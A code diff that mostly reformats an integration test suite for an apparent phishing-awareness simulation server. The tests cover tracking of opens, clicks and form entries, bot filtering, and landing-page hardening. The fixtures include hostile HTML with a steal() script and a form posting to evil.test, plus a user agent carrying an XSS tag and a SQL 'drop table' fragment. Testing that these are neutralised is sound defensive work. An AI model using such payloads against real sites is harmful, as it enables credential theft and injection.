@@ -22,34 +22,68 @@ beforeAll(async () => {
 });
 
 type Row = {
-  id: number; tracking_key: string; result: number; opened_at: string | null; clicked_at: string | null; entered_at: string | null;
-  attachment_opened_at: string | null; os: string | null; employee_id: string; first_name: string; last_name: string;
+  id: number;
+  tracking_key: string;
+  result: number;
+  opened_at: string | null;
+  clicked_at: string | null;
+  entered_at: string | null;
+  attachment_opened_at: string | null;
+  os: string | null;
+  employee_id: string;
+  first_name: string;
+  last_name: string;
 };
-type Event = { kind: string; human: boolean; verdict: string; fields: string[]; os: string | null; browser: string | null; user_agent: string; address: string };
+type Event = {
+  kind: string;
+  human: boolean;
+  verdict: string;
+  fields: string[];
+  os: string | null;
+  browser: string | null;
+  user_agent: string;
+  address: string;
+};
 const rows = async <T extends object>(text: string, values: unknown[] = []): Promise<T[]> =>
   (await platform.db.owner.query<T & Record<string, unknown>>(text, values)).rows;
 
 let count = 0;
 const running = async (people = 1, changes: Parameters<typeof mailing>[3] = {}) => {
   const org = await createOrganization(platform, {
-    title: `ООО «Ромашка» & ${++count}`, language: 'ru', timeZone: 'Asia/Tashkent', usersLimit: 1000, licenceStart: '2020-01-01', licenceEnd: '2099-12-31',
+    title: `ООО «Ромашка» & ${++count}`,
+    language: 'ru',
+    timeZone: 'Asia/Tashkent',
+    usersLimit: 1000,
+    licenceStart: '2020-01-01',
+    licenceEnd: '2099-12-31',
   });
   const made = await mailing(platform, org, people, { domain: `t${count}.test`, ...changes });
-  await rows(`update campaign_recipients set state = 'sent', sent_at = now() - interval '10 minutes' where campaign_id = $1`, [made.campaignId]);
-  const recipients = () => rows<Row>('select * from campaign_recipients where campaign_id = $1 order by id', [made.campaignId]);
-  const events = () => rows<Event>('select * from tracking_events where campaign_id = $1 order by id', [made.campaignId]);
+  await rows(
+    `update campaign_recipients set state = 'sent', sent_at = now() - interval '10 minutes' where campaign_id = $1`,
+    [made.campaignId],
+  );
+  const recipients = () =>
+    rows<Row>('select * from campaign_recipients where campaign_id = $1 order by id', [made.campaignId]);
+  const events = () =>
+    rows<Event>('select * from tracking_events where campaign_id = $1 order by id', [made.campaignId]);
   return { ...made, org, recipients, events, key: (await recipients())[0]!.tracking_key };
 };
-const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
+const chrome =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
 const browser = { 'user-agent': chrome, accept: 'text/html,*/*', 'accept-language': 'ru,en;q=0.8' };
-const get = (path: string, headers: Record<string, string> = browser) => fetch(base + path, { headers, redirect: 'manual' });
+const get = (path: string, headers: Record<string, string> = browser) =>
+  fetch(base + path, { headers, redirect: 'manual' });
 const submit = (key: string, fields: string, headers: Record<string, string> = browser) =>
   fetch(`${base}/${key}/s?f=${fields}`, { method: 'POST', headers });
 
 test('opening, following the link and entering data raise the result; each event is kept with what is known of it', async () => {
   const { key, recipients, events, campaignId, org } = await running();
   const pixel = await get(`/${key}/o.gif`);
-  expect([pixel.status, pixel.headers.get('content-type'), pixel.headers.get('cache-control')]).toEqual([200, 'image/gif', 'no-store']);
+  expect([pixel.status, pixel.headers.get('content-type'), pixel.headers.get('cache-control')]).toEqual([
+    200,
+    'image/gif',
+    'no-store',
+  ]);
   expect((await recipients())[0]).toMatchObject({ result: 1, clicked_at: null });
   const landing = await get(`/${key}`);
   expect(landing.status).toBe(200);
@@ -59,21 +93,27 @@ test('opening, following the link and entering data raise the result; each event
   expect((await recipients())[0]).toMatchObject({ result: 4, os: 'Windows' });
   const found = await events();
   expect(found.map((event) => [event.kind, event.human, event.verdict, event.browser, event.address])).toEqual([
-    ['opened', true, '', 'Chrome', '127.0.0.1'], ['clicked', true, '', 'Chrome', '127.0.0.1'], ['entered_data', true, '', 'Chrome', '127.0.0.1'],
+    ['opened', true, '', 'Chrome', '127.0.0.1'],
+    ['clicked', true, '', 'Chrome', '127.0.0.1'],
+    ['entered_data', true, '', 'Chrome', '127.0.0.1'],
   ]);
   expect(found[2]!.fields).toEqual(['login', 'password']);
   const queue = await rows<{ name: string; payload: { employee_ids?: string[] } }>(
     `select t.identifier as name, j.payload from graphile_worker._private_jobs j join graphile_worker._private_tasks t on t.id = j.task_id
-     where j.payload->>'organization_id' = $1 order by j.id`, [org]);
+     where j.payload->>'organization_id' = $1 order by j.id`,
+    [org],
+  );
   expect(queue.filter((job) => job.name === 'campaigns.react-to-results')).toEqual([
-    { name: 'campaigns.react-to-results', payload: { organization_id: org, campaign_id: campaignId } }]);
+    { name: 'campaigns.react-to-results', payload: { organization_id: org, campaign_id: campaignId } },
+  ]);
   expect(queue.filter((job) => job.name === 'statistics.refresh-people').length).toBeGreaterThan(0);
 });
 
 test('the landing page carries neither names nor addresses of forms, only our script, and a policy that lets nothing out', async () => {
   const { key } = await running(1, {
-    page_html: '<html><body onload="x()"><script>steal()</script><form action="https://evil.test" method="post"><input name="login" data-field="login">'
-      + '<button formaction="https://evil.test">OK</button></form><p>{{organization}}</p></body></html>',
+    page_html:
+      '<html><body onload="x()"><script>steal()</script><form action="https://evil.test" method="post"><input name="login" data-field="login">' +
+      '<button formaction="https://evil.test">OK</button></form><p>{{organization}}</p></body></html>',
   });
   const landing = await get(`/${key}`);
   const html = await landing.text();
@@ -83,7 +123,14 @@ test('the landing page carries neither names nor addresses of forms, only our sc
   expect(landing.headers.get('set-cookie')).toBeNull();
   expect(landing.headers.get('referrer-policy')).toBe('no-referrer');
   const policy = landing.headers.get('content-security-policy')!;
-  for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "form-action 'none'", "frame-ancestors 'none'"]) expect(policy).toContain(rule);
+  for (const rule of [
+    "default-src 'none'",
+    "script-src 'self'",
+    "connect-src 'self'",
+    "form-action 'none'",
+    "frame-ancestors 'none'",
+  ])
+    expect(policy).toContain(rule);
   expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
   expect(await (await get('/s.js')).text()).toContain('/s?f=');
 });
@@ -94,16 +141,23 @@ test('what is typed is never read: a body is left alone, and only known kinds of
   const secret = 'hunter2-very-secret';
   const answer = await new Promise<string>((resolve, reject) => {
     const socket = connect(port, '127.0.0.1', () => {
-      socket.write(`POST /${key}/s?f=password,${secret},login HTTP/1.1\r\nHost: x\r\nUser-Agent: ${chrome}\r\nAccept: */*\r\nAccept-Language: ru\r\n`
-        + `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${secret.length + 9}\r\n\r\npassword=${secret}`);
+      socket.write(
+        `POST /${key}/s?f=password,${secret},login HTTP/1.1\r\nHost: x\r\nUser-Agent: ${chrome}\r\nAccept: */*\r\nAccept-Language: ru\r\n` +
+          `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${secret.length + 9}\r\n\r\npassword=${secret}`,
+      );
     });
     let text = '';
-    socket.on('data', (chunk: Buffer) => (text += chunk.toString())).on('end', () => resolve(text)).on('error', reject);
+    socket
+      .on('data', (chunk: Buffer) => (text += chunk.toString()))
+      .on('end', () => resolve(text))
+      .on('error', reject);
   });
   expect(answer).toMatch(/^HTTP\/1\.1 200/);
   expect(answer.toLowerCase()).toContain('connection: close');
   expect((await events()).at(-1)).toMatchObject({ kind: 'entered_data', fields: ['password', 'login'] });
-  const everything = await rows<{ text: string }>(`select row_to_json(t)::text as text from tracking_events t union all select row_to_json(r)::text from campaign_recipients r`);
+  const everything = await rows<{ text: string }>(
+    `select row_to_json(t)::text as text from tracking_events t union all select row_to_json(r)::text from campaign_recipients r`,
+  );
   expect(everything.some((row) => row.text.includes(secret))).toBe(false);
 });
 
@@ -125,7 +179,8 @@ test('an unknown key gets the same plain page as nonsense, and leaves no trace',
   const nonsense = await get('/wp-login.php');
   expect([unknown.status, nonsense.status]).toEqual([404, 404]);
   expect(await unknown.text()).toBe(await nonsense.text());
-  for (const path of ['/o.gif', '/d.gif', '/a', '/r']) expect((await get(`/${'A'.repeat(22)}${path}`)).status).toBe(404);
+  for (const path of ['/o.gif', '/d.gif', '/a', '/r'])
+    expect((await get(`/${'A'.repeat(22)}${path}`)).status).toBe(404);
   expect((await submit('A'.repeat(22), 'login')).status).toBe(404);
   expect(await rows<{ n: number }>('select count(*)::int as n from tracking_events')).toEqual(before);
 });
@@ -137,7 +192,11 @@ test('machines are shown and never counted; looking ahead with HEAD stores nothi
   await get(`/${key}`, { 'user-agent': 'curl/8.1', accept: '*/*' });
   await get(`/${key}`, { ...browser, 'sec-purpose': 'prefetch;prerender' });
   await submit(key, 'login', { ...browser, 'user-agent': 'python-requests/2.31' });
-  expect((await events()).map((event) => [event.human, event.verdict])).toEqual([[false, 'known_scanner'], [false, 'prefetch'], [false, 'known_scanner']]);
+  expect((await events()).map((event) => [event.human, event.verdict])).toEqual([
+    [false, 'known_scanner'],
+    [false, 'prefetch'],
+    [false, 'known_scanner'],
+  ]);
   expect((await recipients())[0]).toMatchObject({ result: 0, clicked_at: null, entered_at: null });
   await submit(key, 'login');
   expect((await events()).at(-1)).toMatchObject({ human: false, verdict: 'no_click_before' });
@@ -149,14 +208,20 @@ test('an opened document stands beside the click, by its picture or its link', a
   const [one, two] = await recipients();
   expect((await get(`/${one!.tracking_key}/d.gif`)).status).toBe(200);
   const followed = await get(`/${two!.tracking_key}/a`);
-  expect([followed.status, followed.headers.get('location')]).toEqual([302, `${platform.urls.portal}/lk/phishing/gotcha?c=${two!.tracking_key}`]);
+  expect([followed.status, followed.headers.get('location')]).toEqual([
+    302,
+    `${platform.urls.portal}/lk/phishing/gotcha?c=${two!.tracking_key}`,
+  ]);
   expect((await recipients()).map((row) => row.result)).toEqual([3, 3]);
   expect((await events()).map((event) => event.kind)).toEqual(['opened_attachment', 'opened_attachment']);
 });
 
 test('a hostile user agent is cut and kept as text', async () => {
   const { key, events } = await running();
-  await get(`/${key}/o.gif`, { ...browser, 'user-agent': `Mozilla/5.0 <script>alert(1)</script>'; drop table x; ${'x'.repeat(2_000)}` });
+  await get(`/${key}/o.gif`, {
+    ...browser,
+    'user-agent': `Mozilla/5.0 <script>alert(1)</script>'; drop table x; ${'x'.repeat(2_000)}`,
+  });
   const [event] = await events();
   expect(event!.user_agent).toHaveLength(500);
   expect(event!.user_agent).toContain('<script>alert(1)</script>');
@@ -176,7 +241,10 @@ test('after the end results rise for seven more days, then events are only kept'
 
 test('the campaign’s own page follows the form where it has one', async () => {
   const { key, campaignId, org } = await running();
-  const [page] = await rows<{ id: string }>(`insert into redirect_pages (organization_id, name, html) values ($1, 'Р', '<p>Спасибо, {{first_name}}</p>') returning id`, [org]);
+  const [page] = await rows<{ id: string }>(
+    `insert into redirect_pages (organization_id, name, html) values ($1, 'Р', '<p>Спасибо, {{first_name}}</p>') returning id`,
+    [org],
+  );
   await rows('update campaigns set redirect_page_id = $2 where id = $1', [campaignId, page!.id]);
   await get(`/${key}`);
   const { to } = (await (await submit(key, 'login')).json()) as { to: string };
@@ -188,11 +256,13 @@ test('200 people open, click and submit at the same moment: every event is store
   const { recipients, events } = await running(200);
   const keys = (await recipients()).map((row) => row.tracking_key);
   const fine = async (answer: Promise<Response>) => expect((await answer).status).toBe(200);
-  await Promise.all(keys.flatMap((key) => [
-    fine(get(`/${key}/o.gif`)),
-    fine(get(`/${key}`)).then(() => fine(submit(key, 'login,password'))),
-    fine(get(`/${key}/o.gif`)),
-  ]));
+  await Promise.all(
+    keys.flatMap((key) => [
+      fine(get(`/${key}/o.gif`)),
+      fine(get(`/${key}`)).then(() => fine(submit(key, 'login,password'))),
+      fine(get(`/${key}/o.gif`)),
+    ]),
+  );
   const found = await events();
   expect(found).toHaveLength(800);
   expect(found.every((event) => event.human)).toBe(true);
